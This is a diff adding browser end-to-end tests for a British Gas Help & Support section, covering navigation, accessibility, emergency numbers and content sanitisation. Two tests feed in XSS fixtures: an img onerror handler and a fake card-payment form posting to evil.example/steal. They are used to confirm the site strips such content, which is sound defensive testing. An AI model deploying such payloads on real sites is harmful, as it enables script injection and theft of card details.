@@ -1,0 +1,191 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { AREA, BASE_URL, expectNoAxeViolations, useBrowser } from './support/browser';
+
+const browser = useBrowser();
+
+describe('help content', () => {
+  it('walks from the landing page through a tile and a category to an article', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${AREA}/`);
+    await page.getByRole('heading', { level: 1, name: 'Help & Support' }).waitFor();
+    assert.equal(await page.title(), 'Help & Support - British Gas');
+    assert.match(await page.getByRole('main').innerText(), /helping over 300,000 customers/);
+    await expectNoAxeViolations(page);
+
+    await page.getByRole('link', { name: /^Meters/ }).click();
+    await page.getByRole('heading', { level: 1, name: 'Meters' }).waitFor();
+    assert.equal(page.url(), `${AREA}/meters`);
+    assert.equal(await page.title(), 'Meters - Help & Support - British Gas');
+    // Focus moves to the new page's heading for screen-reader and keyboard users.
+    assert.equal(await page.evaluate(() => document.activeElement?.textContent), 'Meters');
+    await expectNoAxeViolations(page);
+
+    await page.getByRole('link', { name: 'Think your meter is faulty?' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Think your meter is faulty?' }).waitFor();
+    assert.equal(await page.title(), 'Think your meter is faulty? - Help & Support - British Gas');
+    const description = await page.locator('meta[name="description"]').getAttribute('content');
+    assert.match(description ?? '', /meter/i);
+    assert.equal(
+      await page
+        .getByRole('navigation', { name: 'Related articles' })
+        .getByRole('listitem')
+        .count(),
+      5,
+    );
+    await expectNoAxeViolations(page);
+    assert.deepEqual(page.problems, []);
+  });
+
+  it('shows the landing page extras and asks nothing of the video host before a click', async () => {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    const foreign: string[] = [];
+    page.on('request', (r) => {
+      if (!r.url().startsWith(BASE_URL)) foreign.push(r.url());
+    });
+    await page.route('https://www.youtube-nocookie.com/**', (route) =>
+      route.fulfill({ body: '<p>video</p>', contentType: 'text/html' }),
+    );
+    await page.goto(`${AREA}/`);
+    const videos = page.getByRole('button', { name: /^Play video:/ });
+    await videos.first().waitFor();
+    assert.equal(await videos.count(), 7);
+    for (const name of [
+      'Moving Home',
+      'Bereavement',
+      'Struggling to pay',
+      'Warm Home discount',
+      'Emergencies',
+      'Contact Us',
+    ]) {
+      assert.equal(
+        await page
+          .getByRole('navigation', { name: 'More help' })
+          .getByRole('link', { name, exact: true })
+          .count(),
+        1,
+        name,
+      );
+    }
+    await page.getByRole('heading', { name: 'Help from the British Gas Energy Trust' }).waitFor();
+    assert.equal(
+      await page.getByRole('link', { name: /PeakSave/ }).getAttribute('href'),
+      'https://www.britishgas.co.uk/energy/peaksave.html',
+    );
+    assert.equal(
+      foreign.length,
+      0,
+      `requests to other sites before any click: ${foreign.join(', ')}`,
+    );
+
+    await videos.first().click();
+    await page.frameLocator('iframe[title="How to read your meter"]').getByText('video').waitFor();
+    assert.equal(
+      foreign.length > 0 && foreign.every((u) => u.startsWith('https://www.youtube-nocookie.com/')),
+      true,
+    );
+  });
+
+  it('shows an outage notice, sanitised, when there is one', async () => {
+    const page = await browser.newPage();
+    await page.route('**/content/help-and-support/outage-notice.json', (route) =>
+      route.fulfill({
+        json: {
+          title: 'Our phone lines are busy',
+          message:
+            '<p>We are fixing a fault. <a href="/help-and-support/contact-us">Other ways to contact us</a></p><img src=x onerror="document.body.dataset.pwned=1">',
+        },
+      }),
+    );
+    await page.goto(`${AREA}/`);
+    await page.getByRole('heading', { name: 'Our phone lines are busy' }).waitFor();
+    await page.getByText('We are fixing a fault.').waitFor();
+    assert.equal(await page.evaluate(() => document.body.dataset.pwned), undefined);
+    await expectNoAxeViolations(page);
+  });
+
+  it('shows no outage banner when the notice is empty', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${AREA}/`);
+    await page.getByRole('heading', { name: 'Help topics' }).waitFor();
+    await page.waitForLoadState('networkidle');
+    assert.equal(await page.locator('.outage-banner').count(), 0);
+  });
+
+  it('puts the emergency numbers first on a phone screen, as tel: links', async () => {
+    const page = await browser.newPage({ viewport: { width: 360, height: 640 } });
+    await page.goto(`${AREA}/emergencies`);
+    for (const [name, href] of [
+      ['0800 111 999', 'tel:0800111999'],
+      ['105', 'tel:105'],
+      ['0330 808 3880', 'tel:03308083880'],
+    ]) {
+      const link = page.getByRole('main').getByRole('link', { name, exact: true });
+      assert.equal(await link.getAttribute('href'), href);
+      const box = await link.boundingBox();
+      assert.ok(box && box.y + box.height <= 640, `${name} is visible without scrolling`);
+    }
+    assert.equal(await page.title(), 'Emergencies - Help & Support - British Gas');
+    await page.getByRole('heading', { name: 'Electrical safety advice' }).waitFor();
+    await expectNoAxeViolations(page);
+  });
+
+  it('shows bills-and-payments with its campaign, Energy Trust promotion and back-to-top link', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${AREA}/bills-and-payments`);
+    await page.getByRole('heading', { name: 'Common questions' }).waitFor();
+    await page
+      .getByRole('heading', { name: 'Worried about energy bills? Three things that help' })
+      .waitFor();
+    await page.getByRole('heading', { name: 'Help from the British Gas Energy Trust' }).waitFor();
+    await page.getByRole('link', { name: 'Back to top' }).waitFor();
+    await expectNoAxeViolations(page);
+  });
+
+  it('sends an unknown category to page-not-found', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${AREA}/gardening`);
+    await page.waitForURL(`${BASE_URL}/page-not-found.html`);
+  });
+
+  it('sends an unknown article to page-not-found', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${AREA}/meters/how-to-fly`);
+    await page.waitForURL(`${BASE_URL}/page-not-found.html`);
+  });
+
+  it('renders a hostile article without its handler or its form', async () => {
+    const page = await browser.newPage();
+    await page.route('**/aem6/content/britishgas/help/meters/faulty-meter.html', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body:
+          '<html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>' +
+          '<img src=x onerror="document.body.dataset.pwned=1"><form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>' +
+          '</article></body></html>',
+      }),
+    );
+    await page.goto(`${AREA}/meters/faulty-meter`);
+    await page.getByRole('heading', { level: 1, name: 'Hostile' }).waitFor();
+    await page.waitForTimeout(200);
+    assert.equal(await page.evaluate(() => document.body.dataset.pwned), undefined);
+    assert.equal(
+      await page.locator('.article-body form, .article-body input, .article-body button').count(),
+      0,
+    );
+    assert.equal(await page.locator('.article-body img[onerror]').count(), 0);
+  });
+
+  it('marks the article about leaving us nosnippet', async () => {
+    const page = await browser.newPage();
+    await page.goto(`${AREA}/my-account/leaving-us`);
+    await page
+      .getByRole('heading', { level: 1, name: 'Switching your energy away from us' })
+      .waitFor();
+    assert.equal(await page.locator('meta[name="robots"]').getAttribute('content'), 'nosnippet');
+    assert.equal(
+      await page.locator('link[rel="canonical"]').getAttribute('href'),
+      `${AREA}/my-account/leaving-us`,
+    );
+  });
+});
